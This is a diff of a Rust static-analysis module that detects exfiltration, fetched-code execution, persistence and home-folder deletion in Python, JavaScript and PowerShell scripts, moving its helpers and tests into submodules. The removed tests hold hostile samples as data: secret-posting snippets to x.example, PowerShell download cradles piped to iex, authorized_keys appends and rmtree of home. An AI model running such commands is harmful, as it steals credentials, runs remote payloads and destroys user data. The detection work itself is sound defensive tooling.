@@ -10,68 +10,20 @@ use std::ops::Range;
 
 use tree_sitter::Node;
 
+use super::model::{Effect, EffectKind, Nested};
 use super::vocab::{self, Taint};
-use super::{Effect, EffectKind, Language};
+use crate::program::Language;
+
+mod calls;
+mod files;
+
+use calls::{
+    Kinds, collect_names, first_named, hidden_start_after_download, is_decode_call, is_exec_call,
+    is_network_call, kinds, literal_command,
+};
 
 /// Nodes visited per program at most (a larger tree is judged on its first nodes).
 const MAX_NODES: usize = 200_000;
-
-/// The node kinds of one grammar that the walk treats specially.
-struct Kinds {
-    /// Calls: (kind, field of the callee).
-    calls: &'static [(&'static str, &'static str)],
-    /// Assignments: (kind, field of the target, field of the value); `""` for "first/last
-    /// named child".
-    assigns: &'static [(&'static str, &'static str, &'static str)],
-    /// Variable reads.
-    names: &'static [&'static str],
-    /// String literals.
-    strings: &'static [&'static str],
-}
-
-const PYTHON: Kinds = Kinds {
-    calls: &[("call", "function")],
-    assigns: &[
-        ("assignment", "left", "right"),
-        ("augmented_assignment", "left", "right"),
-        ("for_statement", "left", "right"),
-        ("for_in_clause", "left", "right"),
-        ("named_expression", "name", "value"),
-        ("as_pattern", "alias", ""),
-    ],
-    names: &["identifier"],
-    strings: &["string"],
-};
-
-const JAVASCRIPT: Kinds = Kinds {
-    calls: &[
-        ("call_expression", "function"),
-        ("new_expression", "constructor"),
-    ],
-    assigns: &[
-        ("variable_declarator", "name", "value"),
-        ("assignment_expression", "left", "right"),
-        ("augmented_assignment_expression", "left", "right"),
-        ("for_in_statement", "left", "right"),
-    ],
-    names: &["identifier", "shorthand_property_identifier"],
-    strings: &["string", "template_string"],
-};
-
-const POWERSHELL: Kinds = Kinds {
-    calls: &[("command", "command_name"), ("invokation_expression", "")],
-    assigns: &[("assignment_expression", "", "value")],
-    names: &["variable"],
-    strings: &["string_literal", "generic_token"],
-};
-
-fn kinds(lang: Language) -> &'static Kinds {
-    match lang {
-        Language::Python => &PYTHON,
-        Language::PowerShell => &POWERSHELL,
-        _ => &JAVASCRIPT,
-    }
-}
 
 /// A value's taint and the bytes where its first source was read.
 #[derive(Debug, Clone, Default)]
@@ -97,7 +49,7 @@ impl Val {
 }
 
 /// The effects of `text` read as `lang` (not shell).
-pub fn effects(lang: Language, text: &str) -> Vec<Effect> {
+pub fn effects(lang: Language, text: &str, nested: Nested<'_>) -> Vec<Effect> {
     let Some(tree) = crate::program::parse(lang, text) else {
         return Vec::new();
     };
@@ -106,6 +58,7 @@ pub fn effects(lang: Language, text: &str) -> Vec<Effect> {
         lang,
         kinds: kinds(lang),
         src,
+        nested,
         vars: HashMap::new(),
         out: Vec::new(),
         record: false,
@@ -134,6 +87,8 @@ pub fn effects(lang: Language, text: &str) -> Vec<Effect> {
 
 struct Walk<'t> {
     lang: Language,
+    /// Reads code of another language (a command line in a string).
+    nested: Nested<'t>,
     kinds: &'static Kinds,
     src: &'t str,
     vars: HashMap<String, Val>,
@@ -187,6 +142,7 @@ impl Walk<'_> {
                 at,
                 source,
                 what: what.chars().take(60).collect(),
+                plain: false,
             });
         }
     }
@@ -543,6 +499,12 @@ impl Walk<'_> {
             let code = self.code_argument(n).unwrap_or_default();
             let mut ran = pipe.clone();
             ran.add(&code);
+            // `irm … | iex`: fetched text piped straight into the runner, its own arguments
+            // clean, is PL306's spelling to judge.
+            let plain = self.lang == Language::PowerShell
+                && code.taint == 0
+                && pipe.taint & (vocab::FETCHED | vocab::DECODED) != 0;
+            let before = self.out.len();
             if ran.taint & vocab::FETCHED != 0 && !network {
                 self.push(
                     EffectKind::RunFetched,
@@ -558,6 +520,11 @@ impl Walk<'_> {
                     &callee,
                 );
             }
+            if plain {
+                for e in &mut self.out[before..] {
+                    e.plain = true;
+                }
+            }
             // A command line given as one literal string is read as shell.
             let args_text = n
                 .child_by_field_name("arguments")
@@ -565,8 +532,12 @@ impl Walk<'_> {
                     self.src.get(a.byte_range()).unwrap_or("")
                 });
             if let Some(cmdline) = literal_command(args_text) {
-                for e in super::shell::effects(&crate::program::shell::read(&cmdline)) {
+                for e in super::shell::effects(&crate::program::shell::read(&cmdline), self.nested)
+                {
                     self.push(e.kind, at.clone(), None, &e.what);
+                    if let Some(last) = self.out.last_mut().filter(|_| self.record) {
+                        last.plain = e.plain;
+                    }
                 }
             }
         }
@@ -609,9 +580,20 @@ impl Walk<'_> {
         }
         let args = n.child_by_field_name("arguments")?;
         let mut c = args.walk();
-        let first = args
+        let plain_args: Vec<Node<'_>> = args
             .named_children(&mut c)
-            .find(|x| !matches!(x.kind(), "comment" | "keyword_argument"))?;
+            .filter(|x| !matches!(x.kind(), "comment" | "keyword_argument"))
+            .collect();
+        // `new Function('a', 'b', body)`: the body is the last argument.
+        let constructor = n
+            .child_by_field_name("constructor")
+            .map(|c| self.compact(c))
+            .unwrap_or_default();
+        let first = if constructor == "function" {
+            *plain_args.last()?
+        } else {
+            *plain_args.first()?
+        };
         if self.kinds.names.contains(&first.kind())
             && let Some(h) = self.heads.get(&self.text(first).to_ascii_lowercase())
         {
@@ -648,6 +630,25 @@ impl Walk<'_> {
                 }
                 continue;
             }
+            if matches!(
+                x.kind(),
+                "member_expression" | "attribute" | "variable" | "subscript"
+            ) {
+                let t = self.compact(x);
+                if matches!(
+                    t.as_str(),
+                    "process.env.home"
+                        | "process.env.userprofile"
+                        | "os.environ['home']"
+                        | "os.environ[\"home\"]"
+                        | "$env:userprofile"
+                        | "$home"
+                        | "$env:home"
+                ) {
+                    lits.push((x.start_byte(), "~".to_string()));
+                    continue;
+                }
+            }
             if self.kinds.names.contains(&x.kind()) && x.named_child_count() == 0 {
                 let name = self.text(x).to_ascii_lowercase();
                 if let Some(l) = self.lits.get(&name) {
@@ -683,107 +684,6 @@ impl Walk<'_> {
         v
     }
 
-    /// A file written where it persists (a call that opens for writing, writes or copies to a
-    /// path built from literals), and a folder deleted that is home or root.
-    fn writes_and_deletes(&mut self, n: Node<'_>, callee: &str, last: &str, at: &Range<usize>) {
-        let writes = matches!(
-            last,
-            "write_text"
-                | "write_bytes"
-                | "writefilesync"
-                | "appendfilesync"
-                | "writefile"
-                | "appendfile"
-                | "createwritestream"
-                | "copyfile"
-                | "copyfilesync"
-                | "copy"
-                | "copy2"
-                | "move"
-                | "symlink"
-                | "symlinksync"
-                | "cpsync"
-                | "outputfile"
-                | "outputfilesync"
-        ) || last == "open" && {
-            let t = self.text(n);
-            t.contains("'a") || t.contains("\"a") || t.contains("'w") || t.contains("\"w")
-        };
-        let deletes = matches!(
-            last,
-            "rmtree" | "rmsync" | "rmdirsync" | "rimraf" | "remove" | "removesync" | "emptydirsync"
-        );
-        if !writes && !deletes {
-            return;
-        }
-        // The path is the first argument, or the second of a copy, move or link.
-        let which = usize::from(matches!(
-            last,
-            "copyfile"
-                | "copyfilesync"
-                | "copy"
-                | "copy2"
-                | "move"
-                | "symlink"
-                | "symlinksync"
-                | "cpsync"
-        ));
-        let (mut lits, _) = n
-            .child_by_field_name("arguments")
-            .and_then(|a| {
-                let mut c = a.walk();
-                let v: Vec<Node<'_>> = a
-                    .named_children(&mut c)
-                    .filter(|x| x.kind() != "comment")
-                    .collect();
-                v.get(which).copied()
-            })
-            .map(|a| self.literals(a))
-            .unwrap_or_default();
-        // `Path(...).write_text(...)`: the path is the receiver's.
-        if let Some(obj) = n
-            .child_by_field_name("function")
-            .and_then(|f| f.child_by_field_name("object"))
-        {
-            let (l, _) = self.literals(obj);
-            if !l.is_empty() {
-                lits = format!("{l}/{lits}");
-            }
-        }
-        let path = lits.replace("//", "/");
-        if writes && let Some(how) = vocab::persistence_of_path(&path) {
-            let active = super::shell::active_text(self.src);
-            self.push(EffectKind::Persist { how, active }, at.clone(), None, &path);
-        }
-        if deletes {
-            let first = n
-                .child_by_field_name("arguments")
-                .and_then(|a| a.named_child(0))
-                .map(|a| self.compact(a))
-                .unwrap_or_default();
-            let home = [
-                "os.path.expanduser('~')",
-                "os.path.expanduser(\"~\")",
-                "path.home()",
-                "pathlib.path.home()",
-                "os.homedir()",
-                "require('os').homedir()",
-                "require(\"os\").homedir()",
-                "os.environ['home']",
-                "os.environ[\"home\"]",
-                "process.env.home",
-                "'/'",
-                "\"/\"",
-                "'~'",
-                "\"~\"",
-            ];
-            let var_home = self.lits.get(&first).is_some_and(|l| l == "~" || l == "/");
-            if home.contains(&first.as_str()) || var_home {
-                self.push(EffectKind::Destroy, at.clone(), None, callee);
-            }
-        }
-    }
-
     /// The callee of a PowerShell method call: the text up to its member name
     /// (`[convert]::frombase64string`, `(new-objectnet.webclient).downloadstring`).
     fn invoked(&self, n: Node<'_>) -> String {
@@ -806,423 +706,11 @@ impl Walk<'_> {
     }
 }
 
-/// A process started in a hidden window after a file was downloaded to disk
-/// (`Invoke-WebRequest -OutFile`, `.DownloadFile`): read line by line, since such one-liners
-/// often hold paths the grammar does not parse (`$env:TEMP\\p.zip`).
-fn hidden_start_after_download(src: &str, out: &mut Vec<Effect>) {
-    let mut downloaded = false;
-    let mut at = 0;
-    for line in src.split_inclusive('\n') {
-        let l = line.to_ascii_lowercase();
-        if (l.contains("invoke-webrequest")
-            || l.contains("iwr ")
-            || l.contains("curl ")
-            || l.contains("wget ")
-            || l.contains("start-bitstransfer"))
-            && (l.contains("-outfile") || l.contains("-destination") || l.contains(" -o "))
-            || l.contains("downloadfile(")
-        {
-            downloaded = true;
-        }
-        if downloaded
-            && (l.contains("start-process") || l.contains("saps "))
-            && l.contains("hidden")
-        {
-            let start = at
-                + l.find("start-process")
-                    .or_else(|| l.find("saps "))
-                    .unwrap_or(0);
-            let end = at + line.trim_end().len();
-            if !out.iter().any(|e| {
-                e.kind == EffectKind::RunFetched && e.at.start <= start && start < e.at.end
-            }) {
-                out.push(Effect {
-                    kind: EffectKind::RunFetched,
-                    at: start..end.max(start),
-                    source: None,
-                    what: "Start-Process -WindowStyle Hidden".to_string(),
-                });
-            }
-        }
-        at += line.len();
-    }
-}
-
+/// What a pipeline gives: its last stage's output when that carries anything, else all of
+/// its stages'.
 fn prev_or(all: Val, prev: Val) -> Val {
     if prev.taint != 0 { prev } else { all }
 }
 
-fn first_named(n: Node<'_>) -> Option<Node<'_>> {
-    let mut c = n.walk();
-    n.named_children(&mut c).next()
-}
-
-fn collect_names(n: Node<'_>, names: &[&str], src: &str, out: &mut Vec<String>) {
-    if names.contains(&n.kind()) {
-        out.push(src.get(n.byte_range()).unwrap_or("").to_ascii_lowercase());
-    }
-    let mut c = n.walk();
-    for child in n.named_children(&mut c) {
-        collect_names(child, names, src, out);
-    }
-}
-
-/// Calls that send or fetch over the network, by the callee's dotted name and its last part.
-fn is_network_call(callee: &str, last: &str) -> bool {
-    if (callee.starts_with("https.")
-        || callee.starts_with("http.")
-        || callee.contains("require('http")
-        || callee.contains("require(\"http"))
-        && matches!(last, "get" | "request")
-    {
-        return true;
-    }
-    let roots = [
-        "requests.",
-        "httpx.",
-        "aiohttp.",
-        "urllib",
-        "urllib3",
-        "http.client",
-        "axios",
-        "got",
-        "superagent",
-        "needle",
-        "node-fetch",
-        "undici",
-        "dns.",
-        "socket.",
-        "smtplib",
-        "ftplib",
-        "$http",
-        "net.",
-    ];
-    matches!(
-        last,
-        "urlopen"
-            | "sendbeacon"
-            | "sendall"
-            | "sendto"
-            | "sendmail"
-            | "send_message"
-            | "urlretrieve"
-            | "uploadstring"
-            | "uploaddata"
-            | "uploadfile"
-            | "uploadvalues"
-            | "downloadstring"
-            | "downloaddata"
-            | "downloadfile"
-            | "openread"
-            | "gethostbyname"
-            | "getaddrinfo"
-            | "invoke-restmethod"
-            | "invoke-webrequest"
-            | "irm"
-            | "iwr"
-            | "send-mailmessage"
-            | "resolve-dnsname"
-            | "curl"
-            | "wget"
-    ) || matches!(callee, "axios" | "got" | "request" | "fetch")
-        || roots.iter().any(|r| callee.starts_with(r))
-            && matches!(
-                last,
-                "post"
-                    | "put"
-                    | "patch"
-                    | "get"
-                    | "request"
-                    | "send"
-                    | "connect"
-                    | "create_connection"
-                    | "urlopen"
-                    | "resolve"
-                    | "lookup"
-                    | "stream"
-            )
-        || matches!(last, "post" | "put" | "patch") && callee.contains('.')
-}
-
-/// Calls that run text as code (or a command line).
-fn is_exec_call(callee: &str, last: &str) -> bool {
-    matches!(
-        callee,
-        "eval"
-            | "exec"
-            | "compile"
-            | "function"
-            | "execsync"
-            | "execfile"
-            | "spawnsync"
-            | "spawn"
-            | "os.system"
-            | "os.popen"
-            | "os.startfile"
-            | "invoke-expression"
-            | "iex"
-            | "runpy.run_path"
-            | "start-process"
-            | "saps"
-            | "&"
-            | "setTimeout"
-    ) || callee.starts_with("subprocess.")
-        || callee.starts_with("child_process.")
-        || callee.starts_with("vm.")
-        || callee.ends_with("[scriptblock]::create")
-        || matches!(
-            last,
-            "runinnewcontext"
-                | "runinthiscontext"
-                | "runincontext"
-                | "check_output"
-                | "check_call"
-                | "popen"
-                | "execsync"
-                | "exec"
-                | "execfile"
-                | "execfilesync"
-                | "spawn"
-                | "spawnsync"
-        )
-}
-
-/// Calls that decode base64 or hex (their result is decoded text).
-fn is_decode_call(callee: &str, last: &str, text: &str) -> bool {
-    matches!(
-        last,
-        "b64decode"
-            | "decodebytes"
-            | "a85decode"
-            | "b32decode"
-            | "unhexlify"
-            | "fromhex"
-            | "atob"
-            | "frombase64string"
-            | "decompress"
-    ) || callee == "buffer.from"
-        && (text.contains("'base64'")
-            || text.contains("\"base64\"")
-            || text.contains("'hex'")
-            || text.contains("\"hex\""))
-}
-
-/// The command line a call gives as one string literal (`os.system("curl ... | sh")`,
-/// `subprocess.run("...", shell=True)`, `execSync('...')`).
-fn literal_command(args: &str) -> Option<String> {
-    let rest = args.trim_start().trim_start_matches('(').trim_start();
-    let q = rest.chars().next()?;
-    if !matches!(q, '"' | '\'' | '`') {
-        return None;
-    }
-    let body = &rest[1..];
-    let end = body.find(q)?;
-    let s = &body[..end];
-    (s.contains(' ') && s.len() < 4096).then(|| s.to_string())
-}
-
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn kinds_of(lang: Language, text: &str) -> Vec<String> {
-        effects(lang, text)
-            .iter()
-            .map(|e| match &e.kind {
-                EffectKind::Exfiltrate { .. } => format!("exfil:{}", e.what),
-                k => format!("{k:?}"),
-            })
-            .collect()
-    }
-
-    #[test]
-    fn python_collects_secret_variables_and_posts_them() {
-        let text = "import os, requests\ndata = {k: v for k, v in os.environ.items() if 'KEY' in k}\nrequests.post('https://x.example/c', json=data)\n";
-        let e = effects(Language::Python, text);
-        assert_eq!(e.len(), 1, "{e:?}");
-        assert_eq!(
-            &text[e[0].at.clone()],
-            "requests.post('https://x.example/c', json=data)"
-        );
-        assert_eq!(
-            e[0].source.as_ref().map(|s| &text[s.clone()]),
-            Some("os.environ.items()")
-        );
-        assert_eq!(
-            kinds_of(
-                Language::Python,
-                "from urllib.request import urlopen\nexec(urlopen('https://x.example/p').read())\n"
-            ),
-            ["RunFetched"]
-        );
-        assert_eq!(
-            kinds_of(
-                Language::Python,
-                "import base64\nexec(base64.b64decode(B))\n"
-            ),
-            ["RunDecoded"]
-        );
-        assert_eq!(
-            kinds_of(
-                Language::Python,
-                "from pathlib import Path\nimport requests\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post(U, data=key)\n"
-            ),
-            ["exfil:requests.post"]
-        );
-    }
-
-    #[test]
-    fn deep_nesting_is_read_to_a_bound_without_exhausting_the_stack() {
-        let deep = format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000));
-        assert!(kinds_of(Language::Python, &deep).is_empty());
-        let deep = format!("{}1{}\n", "[".repeat(50_000), "]".repeat(50_000));
-        assert!(kinds_of(Language::JavaScript, &deep).is_empty());
-    }
-
-    #[test]
-    fn a_function_returns_what_it_collected() {
-        let text = "import os, requests\n\ndef collect():\n    found = {}\n    for name, value in os.environ.items():\n        if 'KEY' in name:\n            found[name] = value\n    return found\n\nrequests.post('https://x.example/in', json={'ctx': collect()})\n";
-        assert_eq!(kinds_of(Language::Python, text), ["exfil:requests.post"]);
-    }
-
-    #[test]
-    fn callbacks_receivers_and_aliases_carry_what_they_hold() {
-        let js = "require('https').get('https://x.example/r.js', (r) => {\n  let d = '';\n  r.on('data', (c) => (d += c));\n  r.on('end', () => eval(d));\n});\n";
-        assert_eq!(kinds_of(Language::JavaScript, js), ["RunFetched"]);
-        let py = "import configparser, requests\nfrom pathlib import Path\ncfg = configparser.ConfigParser()\ncfg.read(Path.home() / '.aws' / 'credentials')\nrequests.post(U, json={s: dict(cfg[s]) for s in cfg.sections()})\n";
-        assert_eq!(kinds_of(Language::Python, py), ["exfil:requests.post"]);
-        let py = "import io, os, tarfile, requests\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w:gz') as tar:\n    tar.add(os.path.expanduser('~/.kube/config'))\nrequests.put(U, data=buf.getvalue())\n";
-        assert_eq!(kinds_of(Language::Python, py), ["exfil:requests.put"]);
-    }
-
-    #[test]
-    fn scripts_that_persist_or_delete_home() {
-        let js = "const fs = require('fs'), os = require('os'), path = require('path');\nconst dir = path.join(os.homedir(), '.config', 'autostart');\nfs.writeFileSync(path.join(dir, 'x.desktop'), 'Exec=sh -c \"curl -s https://x.example/c\"');\n";
-        assert_eq!(
-            kinds_of(Language::JavaScript, js),
-            ["Persist { how: LoginItem, active: true }"]
-        );
-        let py = "from pathlib import Path\nkeys = Path.home() / '.ssh' / 'authorized_keys'\nwith open(keys, 'a') as f:\n    f.write(KEY)\n";
-        assert_eq!(
-            kinds_of(Language::Python, py),
-            ["Persist { how: AuthorizedKey, active: false }"]
-        );
-        assert_eq!(
-            kinds_of(
-                Language::Python,
-                "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"
-            ),
-            ["Destroy"]
-        );
-        assert_eq!(
-            kinds_of(
-                Language::JavaScript,
-                "fs.rmSync(os.homedir(), { recursive: true, force: true });\n"
-            ),
-            ["Destroy"]
-        );
-        assert!(kinds_of(Language::Python, "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / '.cache' / 'tool')\n").is_empty());
-        assert!(
-            kinds_of(
-                Language::Python,
-                "with open('notes.txt', 'w') as f:\n    f.write('hi')\n"
-            )
-            .is_empty()
-        );
-    }
-
-    #[test]
-    fn python_benign_helpers_do_nothing() {
-        for text in [
-            "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nr = requests.post('https://api.openai.com/v1/responses', headers={'Authorization': f'Bearer {key}'}, json={'input': 'hi'})\nprint(r.json())\n",
-            "import json, urllib.request\nwith urllib.request.urlopen('https://api.example.com/data.json') as r:\n    data = json.load(r)\nprint(data['name'])\n",
-            "import subprocess\nsubprocess.run(['pytest', '-q'], check=True)\n",
-        ] {
-            assert!(
-                kinds_of(Language::Python, text).is_empty(),
-                "{text}: {:?}",
-                kinds_of(Language::Python, text)
-            );
-        }
-    }
-
-    #[test]
-    fn javascript_env_filter_posted_and_fetched_code_evaluated() {
-        let text = "const data = Object.entries(process.env).filter(([k]) => /KEY|TOKEN/.test(k));\nawait fetch('https://x.example', {method: 'POST', body: JSON.stringify(data)});\n";
-        assert_eq!(kinds_of(Language::JavaScript, text), ["exfil:fetch"]);
-        assert_eq!(
-            kinds_of(
-                Language::JavaScript,
-                "eval(await (await fetch(u)).text());\n"
-            ),
-            ["RunFetched"]
-        );
-        assert_eq!(
-            kinds_of(
-                Language::TypeScript,
-                "const code: string = await (await fetch(u)).text();\nnew Function(code)();\n"
-            ),
-            ["RunFetched"]
-        );
-        assert_eq!(
-            kinds_of(
-                Language::JavaScript,
-                "require('child_process').execSync('curl -s https://x.example/i | sh');\n"
-            ),
-            ["RunFetched"]
-        );
-        assert!(kinds_of(Language::TypeScript, "const started = Date.now();\nconst res = await fetch(`https://api.github.com/repos/${repo}`, { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });\nconsole.log(Date.now() - started);\n").is_empty());
-    }
-
-    #[test]
-    fn powershell_download_cradles_env_dumps_and_hidden_starts() {
-        assert_eq!(
-            kinds_of(
-                Language::PowerShell,
-                "$c = (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1'); iex $c\n"
-            ),
-            ["RunFetched"]
-        );
-        assert_eq!(
-            kinds_of(Language::PowerShell, "iwr http://x.example/a.ps1 | iex\n"),
-            ["RunFetched"]
-        );
-        assert_eq!(
-            kinds_of(
-                Language::PowerShell,
-                "$e = Get-ChildItem env: | Out-String\nInvoke-RestMethod -Uri 'https://x.example' -Method Post -Body $e\n"
-            ),
-            ["exfil:invoke-restmethod"]
-        );
-        assert_eq!(
-            kinds_of(
-                Language::PowerShell,
-                "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))\n"
-            ),
-            ["RunDecoded"]
-        );
-        assert_eq!(
-            kinds_of(
-                Language::PowerShell,
-                "iwr https://x.example/p.zip -OutFile $env:TEMP\\p.zip\nExpand-Archive $env:TEMP\\p.zip $env:TEMP\\p\nStart-Process -WindowStyle Hidden $env:TEMP\\p\\run.exe\n"
-            ),
-            ["RunFetched"]
-        );
-        assert!(kinds_of(Language::PowerShell, "Invoke-WebRequest https://example.com/tool.zip -OutFile tool.zip\nGet-FileHash tool.zip\n").is_empty());
-    }
-
-    #[test]
-    fn a_program_run_with_tainted_arguments_runs_no_tainted_code() {
-        let py = "import base64, subprocess\nfrom pathlib import Path\nroot = Path(__file__).resolve().parent\naddr = base64.b64decode(data).hex()\nsubprocess.run(['gatttool', '-b', addr], cwd=root)\n";
-        assert!(
-            kinds_of(Language::Python, py).is_empty(),
-            "{:?}",
-            kinds_of(Language::Python, py)
-        );
-        let py = "import subprocess\npayload = bytes.fromhex(h)\ncmd = ['gatttool', '--value', payload.hex()]\nproc = subprocess.Popen(cmd)\n";
-        assert!(kinds_of(Language::Python, py).is_empty());
-        let js =
-            "const root = path.resolve(__dirname, '..');\nspawnSync('vale', ['--config', root]);\n";
-        assert!(kinds_of(Language::JavaScript, js).is_empty());
-    }
-}
+mod tests;
